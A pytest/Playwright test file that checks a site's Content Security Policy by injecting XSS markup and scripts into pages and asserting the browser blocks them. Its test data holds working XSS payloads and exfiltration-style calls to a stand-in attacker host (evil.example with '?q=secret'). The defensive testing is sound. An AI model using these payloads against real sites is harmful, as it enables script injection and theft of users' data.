"""The policy of our pages in a real browser: it stops whoever got markup or code into a page.

That the pages need nothing it forbids is seen by the other tests here: none may complain.
"""

from typing import TYPE_CHECKING

import pytest

from tests.bot.shelf import Shelf
from tests.browser.conftest import Serve, Visit

if TYPE_CHECKING:
    from playwright.sync_api import Route

EVIL = "<script>ran = 1</script> <img src=x onerror='ran = 2'> Eyes dance. [1](javascript:ran=3)"
PAGES = ["/", "/documents/evil.txt"]
TYPES = "require-trusted-types-for"
LISTEN = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (violation) =>
  window.stopped.push(violation.effectiveDirective));
"""


@pytest.fixture(scope="module")
def site(serve: Serve, tmp_path_factory: pytest.TempPathFactory) -> str:
    return serve(Shelf(tmp_path_factory.mktemp("shelf")).put({"evil.txt": EVIL}))


def check_stopped(visit: Visit, directive: str) -> None:
    visit.page.wait_for_function("(name) => window.stopped.includes(name)", arg=directive)
    assert visit.page.evaluate("window.ran") is None
    assert visit.complaints  # the browser's own lines about it
    visit.complaints.clear()
    visit.requests.clear()  # they are named before they are stopped


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize(
    ("markup", "directive"),
    [
        ("<script>window.ran = 1</script>", "script-src-elem"),
        ("<script src='https://evil.example/x.js'></script>", "script-src-elem"),
        ("<script src='data:text/javascript,window.ran=1'></script>", "script-src-elem"),
        ("<img src='/nope.png' onerror='window.ran = 1'>", "script-src-attr"),
        ("<svg onload='window.ran = 1'></svg>", "script-src-attr"),
        ("<style>body { background: red }</style>", "style-src-elem"),
        ("<link rel=stylesheet href='https://evil.example/x.css'>", "style-src-elem"),
        ("<p style='color: red'>x</p>", "style-src-attr"),
        ("<img src='https://evil.example/?q=secret'>", "img-src"),
        ("<iframe src='https://evil.example/'></iframe>", "frame-src"),
        ("<object data='https://evil.example/'></object>", "object-src"),
        ("<base href='https://evil.example/'>", "base-uri"),
    ],
)
def test_markup_that_got_into_a_page_is_stopped(
    visit: Visit, path: str, markup: str, directive: str
) -> None:
    def smuggle(route: "Route") -> None:
        response = route.fetch()
        body = response.text().replace("</body>", f"{markup}</body>")
        assert markup in body
        route.fulfill(response=response, body=body)

    visit.page.add_init_script(LISTEN)
    visit.page.route(visit.base + path, smuggle)
    visit.go(path)

    check_stopped(visit, directive)


@pytest.mark.parametrize("path", PAGES)
@pytest.mark.parametrize(
    ("code", "directive"),
    [
        ("document.body.innerHTML += '<img src=x onerror=ran=1>'", TYPES),
        ("document.createElement('script').textContent = 'window.ran = 1'", TYPES),
        ("document.createElement('script').src = 'https://evil.example/'", TYPES),
        ("fetch('https://evil.example/?q=secret').catch(() => null)", "connect-src"),
        ("trustedTypes.createPolicy('default', {createHTML: (html) => html})", "trusted-types"),
    ],
)
def test_code_that_makes_markup_of_text_or_calls_elsewhere_is_stopped(
    visit: Visit, path: str, code: str, directive: str
) -> None:
    visit.page.add_init_script(LISTEN)
    visit.go(path)

    visit.page.evaluate(
        f"async () => {{ try {{ await ({code}); }} catch {{ /* as it should */ }} }}"
    )

    check_stopped(visit, directive)


@pytest.mark.parametrize("path", PAGES)
def test_text_of_a_document_stays_text(visit: Visit, path: str) -> None:
    visit.go(path)
    if path == "/":
        visit.ask("eyes dance")
        assert "<script>" in (visit.page.locator(".turn").text_content() or "")
    else:
        assert visit.page.locator("#text").text_content() == EVIL

    assert visit.page.evaluate("window.ran") is None
    assert visit.page.locator("main img, main script, .turn a[href^='javascript']").count() == 0


def test_no_other_page_can_frame_ours(visit: Visit, site: str) -> None:
    page = visit.page.context.new_page()
    page.route(
        "https://host.example/",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe name=framed src='{site}/'></iframe>"
        ),
    )

    page.goto("https://host.example/")
    framed = page.frame(name="framed")

    assert framed is not None
    assert framed.url != f"{site}/"
